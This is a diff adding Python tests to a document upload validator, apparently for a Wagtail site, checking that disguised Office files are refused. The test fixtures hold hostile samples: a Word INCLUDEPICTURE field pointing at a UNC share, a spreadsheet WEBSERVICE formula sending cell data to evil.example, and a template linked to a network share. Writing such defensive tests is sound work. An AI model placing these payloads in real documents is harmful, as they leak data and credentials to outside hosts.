@@ -5,6 +5,7 @@ refused through Wagtail's document upload; ordinary ones are stored."""
 import html
 import io
 import tracemalloc
+import warnings
 import zipfile
 
 import pytest
@@ -513,3 +514,37 @@ def test_text_files_must_be_text(data):
 def test_notes_starting_with_mz_and_word_line_breaks_are_text():
     assert document_problem("txt", b"MZ Smith called about the EHCP review\r\n") is None
     assert document_problem("txt", b"Line one\x0bline two of the same paragraph\r\n") is None
+
+
+def test_a_word_document_kept_outside_word_has_its_fields_checked():
+    """The package's relationships name the main part; the retest's file kept it at doc/document.xml, and only parts
+    under word/ were read for fields."""
+    body = _field(['INCLUDEPICTURE "\\\\\\\\10.0.0.1\\\\s\\\\a.png" \\d'])
+    parts = docx_parts(body=body, types={"doc/document.xml": f"{CT}.wordprocessingml.document.main+xml"})
+    parts["doc/document.xml"] = parts.pop("word/document.xml")
+    parts["_rels/.rels"] = rels(("officeDocument", "doc/document.xml"))
+
+    assert document_problem("docx", package(parts)) == DocumentProblem.LINKED_FILE
+
+
+def test_a_sheet_kept_outside_worksheets_has_its_formulas_checked():
+    parts = xlsx_parts(cells='<c r="C1"><f>WEBSERVICE("https://evil.example/?"&amp;A1)</f></c>')
+    parts["xl/other/sheet1.xml"] = parts.pop("xl/worksheets/sheet1.xml")
+    parts["xl/_rels/workbook.xml.rels"] = rels(("worksheet", "other/sheet1.xml"))
+
+    assert document_problem("xlsx", package(parts)) is not None
+
+
+def test_a_package_holding_two_parts_of_one_name_is_refused():
+    """Which of the two Office reads is not ours to guess: the retest's file had an empty second copy of the
+    relationships after one pointing the template at a network share."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive, warnings.catch_warnings():
+        warnings.simplefilter("ignore")  # zipfile warns of the duplicate name it is asked to write
+        for name, content in docx_parts(
+            settings_rels=[("attachedTemplate", r"\\host\share\t.dotm", "External")]
+        ).items():
+            archive.writestr(name, content)
+        archive.writestr("word/_rels/settings.xml.rels", rels())
+
+    assert document_problem("docx", buffer.getvalue()) == DocumentProblem.UNREADABLE.format(kind="a Word document")
